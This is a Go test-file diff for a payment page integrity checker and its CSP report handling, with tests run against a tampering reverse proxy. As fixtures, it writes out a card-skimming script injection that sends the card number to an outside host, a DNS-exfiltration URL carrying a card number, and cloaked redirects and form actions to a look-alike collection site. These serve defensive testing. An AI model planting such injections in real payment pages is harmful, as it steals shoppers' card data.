@@ -129,13 +129,13 @@ func TestPageIntegrity(t *testing.T) {
 	if err != nil || len(diffs) != 0 {
 		t.Fatalf("the untouched page differs: %v %v", diffs, err)
 	}
+	kid := e.session(map[string]any{"methods": []string{"card", "kaspi_qr"}})["id"].(string)
+	kaspiQR(t, e, e.browser(), kid)
+	if diffs, err := pagecheck.Verify(context.Background(), http.DefaultClient, e.url+"/pay/"+kid+"/kaspi", want); err != nil || len(diffs) != 0 {
+		t.Fatalf("the untouched Kaspi page differs: %v %v", diffs, err)
+	}
 
-	target, _ := url.Parse(e.url)
-	proxy := httputil.NewSingleHostReverseProxy(target)
-	proxy.ModifyResponse = func(r *http.Response) error {
-		b, _ := io.ReadAll(r.Body)
-		r.Body.Close()
-		s := string(b)
+	tamper := tamperingProxy(t, e.url, func(r *http.Response, s string) string {
 		switch {
 		case strings.HasPrefix(r.Header.Get("Content-Type"), "text/html"):
 			s = strings.Replace(s, "</head>", `<script src="https://skimmer.example/s.js"></script><script>new Image().src="//x/"+document.forms[0].number.value</script></head>`, 1)
@@ -146,13 +146,8 @@ func TestPageIntegrity(t *testing.T) {
 		case strings.HasPrefix(r.Request.URL.Path, "/static/favicon.svg"):
 			s = strings.Replace(s, "#0b57d0", "#d00b0b", 1)
 		}
-		r.Body = io.NopCloser(strings.NewReader(s))
-		r.ContentLength = int64(len(s))
-		r.Header.Del("Content-Length")
-		return nil
-	}
-	tamper := httptest.NewServer(proxy)
-	defer tamper.Close()
+		return s
+	})
 	diffs, err = pagecheck.Verify(context.Background(), http.DefaultClient, tamper.URL+"/pay/"+id, want)
 	if err != nil {
 		t.Fatal(err)
@@ -288,4 +283,145 @@ func TestBrowserReportsCSPViolation(t *testing.T) {
 	if !strings.Contains(all, `"blocked":"https://skimmer.example"`) || !strings.Contains(all, `"page":"/pay/{id}"`) || strings.Contains(all, id) {
 		t.Fatalf("recorded reports: %s", all)
 	}
+}
+
+// TestCSPReportKeepsNoCardDataInTheBlockedURL (from the review of issue 14): "each report is kept as three
+// fields only ... the blocked URL's origin": a skimmer that exfiltrates by
+// DNS (an image from https://<PAN>.<exp>.<cvv>.skim.example/) makes the
+// browser report that origin, and the origin is the card. web/integrity.go
+// originOf keeps u.Host verbatim: the PAN lands in the store's csp-reports
+// log and in the warn log line.
+func TestCSPReportKeepsNoCardDataInTheBlockedURL(t *testing.T) {
+	e := newEnv(t, envOpts{})
+	pan := "4242424242424242"
+	body := `[{"type":"csp-violation","url":"` + e.url + `/pay/x","body":{"documentURL":"` + e.url +
+		`/pay/ses_aaaaaaaaaaaaaaaaaaaaaaaaaa","effectiveDirective":"img-src","blockedURL":"https://` + pan + `.1230.981.skim.example/p.gif"}}]`
+	resp, err := http.Post(e.url+"/csp-report", "application/reports+json", strings.NewReader(body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != 204 {
+		t.Fatalf("report: %d", resp.StatusCode)
+	}
+	ents, err := e.app.Store().Read(context.Background(), "csp-reports", "", 10)
+	if err != nil || len(ents) != 1 {
+		t.Fatalf("recorded %d reports: %v", len(ents), err)
+	}
+	if kept := string(ents[0].Data) + e.logs.String(); strings.Contains(kept, pan) {
+		t.Fatalf("a CSP report kept a card number (in the blocked origin):\n%s", string(ents[0].Data))
+	}
+}
+
+// TestVerifyPageCatchesANavigationAway (from the review of issue 14): verify-page must exit
+// non-zero "when a script, style, inline script or security header differs"
+// and the issue's aim is to know "if someone changed the payment page"
+// (11.6.1: the contents of the page as received). A tampering proxy that
+// leaves scripts, styles and headers alone but adds
+// <meta http-equiv="refresh"> to a look-alike page (no CSP directive stops a
+// navigation) and points the card form elsewhere passes: pagecheck.Verify
+// looks at no element but script, link, style, iframe, object and embed,
+// and at no attribute but on*, and javascript: in href/src/action.
+func TestVerifyPageCatchesANavigationAway(t *testing.T) {
+	e := newEnv(t, envOpts{})
+	want, err := web.BuildManifest(e.url)
+	if err != nil {
+		t.Fatal(err)
+	}
+	id := e.session(nil)["id"].(string)
+	tamper := tamperingProxy(t, e.url, func(r *http.Response, s string) string {
+		if !strings.HasPrefix(r.Header.Get("Content-Type"), "text/html") {
+			return s
+		}
+		s = strings.Replace(s, "</head>", `<meta http-equiv="refresh" content="8;url=https://pay-secure.example/pay/`+id+`"></head>`, 1)
+		return strings.ReplaceAll(s, `<form method="post" action="`, `<form method="post" action="https://pay-secure.example/collect" data-was="`)
+	})
+	diffs, err := pagecheck.Verify(context.Background(), http.DefaultClient, tamper.URL+"/pay/"+id, want)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// The page did change: make sure the proxy really rewrote it.
+	resp, err := http.Get(tamper.URL + "/pay/" + id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	page, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if !strings.Contains(string(page), `http-equiv="refresh"`) || !strings.Contains(string(page), `action="https://pay-secure.example/collect"`) {
+		t.Fatal("the proxy did not tamper (test harness)")
+	}
+	if len(diffs) == 0 {
+		t.Fatal("verify-page found nothing on a page that sends the shopper to another site and posts the card form to it")
+	}
+	all := strings.Join(diffs, "\n")
+	for _, w := range []string{"<meta http-equiv=refresh> sends the shopper to https://pay-secure.example/pay/", "<form action> posts to another origin: https://pay-secure.example/collect"} {
+		if !strings.Contains(all, w) {
+			t.Errorf("not named: %q in\n%s", w, all)
+		}
+	}
+
+	// A cloaking proxy tampers only for browsers (by User-Agent), and
+	// sends the shopper away by other means: a Refresh header, a formaction,
+	// a base URL, a link, a header of its own.
+	cloaked := tamperingProxy(t, e.url, func(r *http.Response, s string) string {
+		if !strings.HasPrefix(r.Header.Get("Content-Type"), "text/html") || !strings.Contains(r.Request.UserAgent(), "Mozilla/") {
+			return s
+		}
+		s = strings.Replace(s, "</head>", `<base href="https://pay-secure.example/"></head>`, 1)
+		s = strings.Replace(s, `<button`, `<button formaction="https://pay-secure.example/collect"`, 1)
+		s = strings.Replace(s, "</main>", `<a href="https://pay-secure.example/help">Help</a></main>`, 1)
+		r.Header.Set("Refresh", "30; url=https://pay-secure.example/pay/"+id)
+		r.Header.Set("X-Served-By", "edge-7")
+		return s
+	})
+	if d, err := pagecheck.VerifyWith(context.Background(), http.DefaultClient, cloaked.URL+"/pay/"+id, want, pagecheck.Options{UserAgent: "Go-http-client/1.1"}); err != nil || len(d) != 0 {
+		t.Fatalf("the cloaking proxy must show tools the real page (test harness): %v %v", d, err)
+	}
+	diffs, err = pagecheck.Verify(context.Background(), http.DefaultClient, cloaked.URL+"/pay/"+id, want)
+	if err != nil {
+		t.Fatal(err)
+	}
+	all = strings.Join(diffs, "\n")
+	for _, w := range []string{
+		`<base href="https://pay-secure.example/">`,
+		"<button formaction> posts to another origin: https://pay-secure.example/collect",
+		"<a href> links to another origin: https://pay-secure.example/help",
+		`header Refresh "30; url=https://pay-secure.example/pay/`,
+		"header X-Served-By is not in the manifest",
+	} {
+		if !strings.Contains(all, w) {
+			t.Errorf("the cloaked tampering not named: %q in\n%s", w, all)
+		}
+	}
+	// A header the operator's own CDN adds can be allowed.
+	diffs, _ = pagecheck.VerifyWith(context.Background(), http.DefaultClient, cloaked.URL+"/pay/"+id, want, pagecheck.Options{AllowHeaders: []string{"x-served-by"}})
+	if strings.Contains(strings.Join(diffs, "\n"), "X-Served-By") {
+		t.Errorf("an allowed header is still named: %v", diffs)
+	}
+}
+
+// tamperingProxy is a reverse proxy in front of the service at origin
+// that rewrites each answer's body (and may change its headers) with edit.
+func tamperingProxy(t *testing.T, origin string, edit func(r *http.Response, body string) string) *httptest.Server {
+	t.Helper()
+	target, err := url.Parse(origin)
+	if err != nil {
+		t.Fatal(err)
+	}
+	proxy := httputil.NewSingleHostReverseProxy(target)
+	proxy.ModifyResponse = func(r *http.Response) error {
+		b, err := io.ReadAll(r.Body)
+		r.Body.Close()
+		if err != nil {
+			return err
+		}
+		s := edit(r, string(b))
+		r.Body = io.NopCloser(strings.NewReader(s))
+		r.ContentLength = int64(len(s))
+		r.Header.Del("Content-Length")
+		return nil
+	}
+	srv := httptest.NewServer(proxy)
+	t.Cleanup(srv.Close)
+	return srv
 }
